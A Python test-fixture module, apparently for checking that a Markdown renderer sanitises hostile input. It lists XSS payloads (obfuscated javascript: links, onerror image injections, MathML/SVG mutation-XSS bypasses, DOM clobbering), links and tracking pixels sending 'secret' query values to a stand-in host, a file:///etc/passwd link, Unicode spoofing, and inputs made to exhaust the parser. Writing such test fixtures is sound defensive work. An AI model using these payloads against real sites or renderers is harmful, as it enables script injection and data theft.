"""Texts by which a model might do with Markdown what it may not: see ``hostile.py``.

:data:`MARKDOWN` are tricks; :data:`HEAVY` are made to take long or to nest deeply.
"""

from __future__ import annotations

_RUN = "javascript:window.hit=1"
_AWAY = "https://hostile.invalid"
_MANY = 10_000

MARKDOWN = {
    # addresses that would run
    "link": f"[press]({_RUN})",
    "link, mixed case": "[press](JaVaScRiPt:window.hit=1)",
    "link with a blank": "[press](java\tscript:window.hit=1) [press](<java script:window.hit=1>)",
    "link with entities": "[a](&#106;avascript:window.hit=1) [b](javascript&colon;window.hit=1)",
    "link with control characters": "[a](\x01javascript:window.hit=1) [b](javascript\x00:hit=1)",
    "link over lines": "[a](<java\nscript:window.hit=1>) [b](\njavascript:window.hit=1\n)",
    "link with escapes": "[a](javascript\\:window.hit=1) [b](%6Aavascript:window.hit=1)",
    "other schemes": "[a](vbscript:x) [b](blob:x) [c](file:///etc/passwd) [d](view-source:x)",
    "data": "[a](data:text/html,<script>opener.hit=1</script>) "
    "![b](data:image/svg+xml,<svg/onload=hit=1>)",
    "autolink that runs": f"<{_RUN}> <JAVASCRIPT:window.hit=1> <data:text/html,x>",
    "autolinks": f"<{_AWAY}/?q=secret> {_AWAY}/?q=secret www.hostile.invalid <a@hostile.invalid>",
    "link that shows another address": f"[https://example.org]({_AWAY}/?q=secret)",
    "link to a look-alike": "[a](https://\u0430pple.invalid) [b](https://good.invalid@hostile.invalid)",
    "reference": f'[press][x] [x] [x][]\n\n[x]: {_RUN} "title"',
    "reference of nothing": "[__proto__] [constructor][toString]\n\n[__proto__]: javascript:hit=1",
    "title that breaks out": f'[a]({_AWAY} "x\' onclick=window.hit=1 y=\\"z") '
    "[b](x '\"><img src=x onerror=window.hit=1>')",
    "address that breaks out": '[a](x"onmouseover="window.hit=1) [b](<x><img src=x onerror=hit=1>)',
    # pictures
    "image": f"![x]({_AWAY}/pixel.png?secret=1)",
    "image that breaks out": '![" onerror="window.hit=1](x) ![x](x"onerror="window.hit=1)',
    "image in a link": f"[![x]({_AWAY}/a.png)]({_RUN})",
    "image of a reference": f"![x][pixel]\n\n[pixel]: {_AWAY}/pixel.png",
    # HTML
    "HTML block": "<div>\n\n<script>window.hit=1</script>\n\n</div>",
    "HTML inside": 'a <img src=x onerror="window.hit=1"> b <b onclick=hit=1>c</b>',
    "HTML with Markdown": f"<a href={_RUN}>\n\n**bold**\n\n</a>",
    "base and refresh": f"<base href={_AWAY}>\n<meta http-equiv=refresh content='0;url={_AWAY}'>",
    "style": f"<style>@import '{_AWAY}/x.css'; * {{ display: none }}</style>",
    "link element": f"<link rel=stylesheet href={_AWAY}/x.css><link rel=prefetch href={_AWAY}>",
    "form": f"<form action={_AWAY}><input name=a autofocus onfocus=hit=1><button>b</button></form>",
    "comment": "<!--\n\n**a**\n\n--><img src=x onerror=window.hit=1>",
    "processing": "<?php window.hit=1 ?> <![CDATA[<img src=x onerror=window.hit=1>]]> <!DOCTYPE x>",
    "mutation, MathML": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=window.hit=1&gt;'>",
    "mutation, SVG": "<svg></p><style><a id='</style><img src=1 onerror=window.hit=1>'>",
    "mutation, noscript": '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
    "mutation, table": "<form><math><mtext></form><form><mglyph><svg><mtext><textarea>"
    "<path id='</textarea><img onerror=window.hit=1 src=1>'>",
    "mutation, select": "<select><template><style><!--</style><a rel='--></style></template>"
    "</select><img id=x src onerror=window.hit=1>'>",
    "namespace": "<svg><foreignObject><iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "clobbering": "<form id=document><input name=body></form><a id=inspector>"
    "<a id=inspector name=x><img name=getElementById><form id=window name=hit>",
    "custom element": "<x-y is=z onclick=window.hit=1><slot name=a></slot>"
    "<template shadowrootmode=open>",
    "aria": "<p role=alert aria-label=ok tabindex=1 accesskey=a contenteditable>go</p>",
    # looks
    "classes of ours": '<div class="inspector heads" style="position:fixed;inset:0">over</div>',
    "fence with attributes": '```js class="x" onclick=hit=1 {style=position:fixed}\ncode\n```',
    "fence of HTML": "~~~html\n```\n</code></pre><img src=x onerror=window.hit=1>\n~~~\n<b>",
    "nested fences": "````\n```\n<script>window.hit=1</script>\n```\n````\n```\nnever closed",
    "code that breaks out": "`</code><img src=x onerror=window.hit=1>` ``a`b``",
    "turned": "[\u202emoc.elgoog//:sptth](https://hostile.invalid) **\u202ebold** `\u202ecode`\n\n"
    "\u202e> never closed\n\n\u2067|a|b|",
    "turned by entities": "&#8238;evil&#x202E;more &rlm;",
    "table that breaks out": "| <td> | </table> |\n|:-:|--:|\n| <img src=x onerror=hit=1> | `|` |",
    "table with hidden cells": "|a|\n|-|\n|b|hidden|\n",
    "list of a large number": "999999999. wide\n1000000000. none\n\n- [ ] task\n- [x] done",
    "headings": "# one\n#### four\n###### six\nsetext\n===\nother\n---",
    "footnote": f"text[^1] and ^[inline]\n\n[^1]: [x]({_RUN}) note",
    "definition": "Term\n: **definition** <img src=x onerror=hit=1>\n\n*[HTML]: abbreviation",
    "front matter": "---\ntitle: x\nlayout: <script>window.hit=1</script>\n---\ntext",
    "wiki and mentions": f"[[page|{_RUN}]] @user #1 :smile: ==mark== ++ins++ ~sub~ ^sup^",
    "attributes": "# title {#inspector .heads onclick=hit=1}\n\n[x](y){target=_top}\n{: .row}",
    "alert": "> [!WARNING]\n> [x](javascript:window.hit=1)",
    "maths": "$$\\href{javascript:window.hit=1}{x}$$ $\\unicode{x3c}img$ \\(x\\)",
    "directive": '::: {.inspector onclick="hit=1"}\ntext\n:::\n:iframe[x]{src=//hostile.invalid}',
    "combining marks": "# " + "Z" + "\u0301\u0320" * 200 + "algo",
    "long word": "**" + "x" * 3000 + "** `" + "y" * 3000 + "`",
    "long address": f"[a]({_AWAY}/{'z' * 3000})",
}
"""Name of the trick to the text."""

HEAVY = {
    "quotes": "> " * _MANY + "deep",
    "quotes without blanks": ">" * _MANY + "deep",
    "brackets": "[" * _MANY + "deep" + "]" * _MANY,
    "links": "[a](" * _MANY,
    "images": "![" * _MANY + "deep",
    "stars": "*" * _MANY + "deep",
    "stars, opening": "*a **b " * _MANY,
    "underscores": "_a __b " * 5_000 + "c__ d_ " * 5_000,
    "lists": "- " * _MANY + "deep",
    "numbered lists": "1. " * _MANY + "deep",
    "lists over lines": "\n".join(" " * (2 * deep) + "- a" for deep in range(300)),
    "lazy quote": ">" * 200 + "a\n" + "b\n" * _MANY,
    "columns": "\n".join("|" + cell * _MANY for cell in ("a|", "-|", "b|")),
    "rows": "|" + "a|" * 300 + "\n|" + "-|" * 300 + "\n" + "|x\n" * 5_000,
    "setext": "a\n" * _MANY + "===",
    "headings": "a\n=\n" * _MANY,
    "backticks": "".join("a" + "`" * run for run in range(400)),
    "entities": "&" * 100_000,
    "angles": "<" * 100_000,
    "open tags": "<a " * _MANY,
    "comments": "<!--" * _MANY,
    "fences": "```\n" * _MANY,
    "references": "".join(f"[a{at}]: b\n" for at in range(5_000)) + "[a1]" * 5_000,
    "titles": '[a](b "' * _MANY,
    "rules": "---\n\n" * _MANY,
    "400 KB of prose": "Some *words* and `code` in a [link](https://hostile.invalid). " * 6_500,
    "400 KB in a word": "x" * 400_000,
    "just short enough": ("Some *words* and `code`. " + "And many more. " * 20 + "\n\n") * 300,
}
"""Name of what there is much of to the text."""
